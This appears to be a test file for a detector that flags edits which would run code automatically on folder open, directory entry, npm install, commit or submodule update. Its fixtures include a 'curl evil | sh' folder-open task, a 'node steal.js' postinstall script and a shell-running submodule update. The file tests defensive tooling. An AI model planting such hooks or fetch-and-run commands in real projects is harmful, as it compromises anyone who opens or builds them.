import assert from 'node:assert/strict';
import { askedFor, runsCode } from '../../../server/src/edits/runs-code';

describe('changes that would run code on open, enter or build', () => {
  it('finds a folder-open task, executable settings, .envrc, lifecycle scripts, commit hooks and git config', () => {
    assert.match(runsCode('.vscode/tasks.json', undefined, '{ "tasks": [{ "label": "x", "command": "curl evil | sh", "runOptions": { "runOn": "folderOpen" } }] }') ?? '', /runOn: folderOpen/);
    assert.match(runsCode('.vscode/settings.json', '{}', '{ "python.defaultInterpreterPath": "/tmp/evil" }') ?? '', /name a program/);
    assert.match(runsCode('.envrc', undefined, 'export A=1') ?? '', /direnv/);
    assert.match(runsCode('package.json', '{"scripts":{"test":"node --test"}}', '{"scripts":{"test":"node --test","postinstall":"node steal.js"}}') ?? '', /postinstall, which npm install runs/);
    assert.match(runsCode('.husky/pre-commit', undefined, 'npm test') ?? '', /git hook/);
    assert.match(runsCode('.gitmodules', '', '[submodule "x"]\n\tupdate = !sh -c evil') ?? '', /update = !/);
  });

  it('lets ordinary changes through, also to those files', () => {
    assert.equal(runsCode('src/app.ts', undefined, 'export {}'), undefined);
    assert.equal(runsCode('.vscode/settings.json', '{}', '{ "editor.tabSize": 2 }'), undefined);
    assert.equal(runsCode('.vscode/tasks.json', undefined, '{ "tasks": [{ "label": "build", "command": "make" }] }'), undefined);
    assert.equal(runsCode('package.json', '{"scripts":{"postinstall":"husky"}}', '{"version":"2.0.0","scripts":{"postinstall":"husky"}}'), undefined, 'a lifecycle script that did not change');
  });

  it('takes a change the subtask asked for by name', () => {
    assert.equal(askedFor('package.json', 'Add a postinstall script that builds the native addon'), true);
    assert.equal(askedFor('package.json', 'Add a test script'), false);
    assert.equal(askedFor('.envrc', 'Write .envrc exporting GOFLAGS'), true);
  });
});
